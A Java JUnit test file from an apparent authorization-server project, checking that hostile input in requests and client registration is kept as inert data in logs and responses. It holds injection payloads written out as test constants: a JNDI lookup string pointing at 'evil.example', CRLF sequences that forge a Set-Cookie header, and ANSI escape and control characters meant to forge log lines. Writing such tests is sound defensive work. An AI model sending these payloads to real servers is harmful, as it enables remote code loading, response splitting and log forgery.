package dev.ninestep.step;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import dev.ninestep.event.ClientRegistered;
import dev.ninestep.event.Event;
import dev.ninestep.event.Refusal;
import dev.ninestep.event.StepRefused;
import dev.ninestep.log.EventCodec;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

/// What a caller writes to deceive whoever reads logs is data there, and nothing else.
class HostileWordsTest {

  private static final String JNDI = "${jndi:ldap://evil.example/a}";

  /// With a control character that HTTP lets pass.
  private static final String AGENT = "agent\u0085 " + JNDI;

  private static final Pattern CONTROL = Pattern.compile("\\p{Cntrl}");

  private final TestServer server = new TestServer();

  @AfterEach
  void stop() {
    server.close();
  }

  private String get(String target) throws IOException {
    return get(target, AGENT);
  }

  private String get(String target, String agent) throws IOException {
    return server.raw(
        "GET %s HTTP/1.1\r\nHost: a\r\nUser-Agent: %s\r\nConnection: close\r\n\r\n"
            .formatted(target, agent));
  }

  private static String written(Event event) {
    return new String(EventCodec.json(event), StandardCharsets.UTF_8);
  }

  // EV-05
  @Test
  void anAgentIsOneValueOfOneEvent() throws IOException {
    get("/authorize?client_id=nobody");
    assertThat(server.log.facts()).hasSize(1);
    assertThat(server.lastRefused().caller().agent()).contains("agent? " + JNDI);
    assertThat(written(server.lastRefused())).doesNotContainPattern(CONTROL);
  }

  // EV-05
  @Test
  void aHeaderWithAnEscapeIsMalformedAndNotKept() throws IOException {
    var answer = get("/authorize", "a\u001b[31m\0b");
    assertThat(answer).startsWith("HTTP/1.1 400 ");
    assertThat(server.log.facts()).hasSize(1);
    assertThat(server.lastRefused().refusal()).isEqualTo(Refusal.REQUEST_MALFORMED);
    assertThat(written(server.lastRefused())).doesNotContainPattern(CONTROL);
  }

  // EV-05
  @Test
  void aLineBreakInAParameterIsNoLineInAnAnswer() throws IOException {
    var broken = "x%0d%0aSet-Cookie:a=b%1b[31m%00" + JNDI.replace("{", "%7b").replace("}", "%7d");
    for (var parameter : new String[] {"client_id", "redirect_uri", "state", "scope"}) {
      var client = TestClient.register(server);
      var request = Form.without(client.authorization(), parameter);
      var before = server.log.facts().size();
      var answer = get("/authorize?" + Form.encode(request) + "&" + parameter + "=" + broken);
      assertThat(answer.split("\r\n\r\n", 2)[0]).doesNotContain("\r\nSet-Cookie", "\u001b");
      assertThat(server.log.facts()).hasSize(before + 1);
      assertThat(written(server.log.events().getLast())).doesNotContainPattern(CONTROL);
    }
  }

  // EV-05
  @Test
  void aNameWithControlCharactersIsNoneAndOneWithAnExpressionIsKeptAsItIs() {
    var metadata = "{\"client_name\":\"%s\",\"redirect_uris\":[\"" + TestClient.CALLBACK + "\"]}";
    server.post("/register", "application/json", metadata.formatted("a\\u001b[31mb\\r\\nc"));
    assertThat(server.lastRefused().refusal()).isEqualTo(Refusal.CLIENT_NAME_NOT_FIT);
    server.post("/register", "application/json", metadata.formatted(JNDI));
    assertThat(server.log.events(ClientRegistered.class))
        .singleElement()
        .satisfies(told -> assertThat(told.name().value()).isEqualTo(JNDI));
  }

  // EV-05
  @Test
  void aPathIsOneLineOfTheLogAndOneEvent() throws IOException {
    var root = (Logger) LoggerFactory.getLogger("dev.ninestep.exchange.Failures");
    var lines = new ListAppender<ILoggingEvent>();
    lines.start();
    root.addAppender(lines);
    try {
      get("/defect?a=%0d%0aforged%1b[31m" + JNDI.replace("{", "%7b").replace("}", "%7d"));
    } finally {
      root.detachAppender(lines);
    }
    assertThat(lines.list)
        .singleElement()
        .satisfies(line -> assertThat(line.getFormattedMessage()).doesNotContainPattern(CONTROL));
    assertThat(server.log.events(StepRefused.class)).hasSize(1);
  }
}
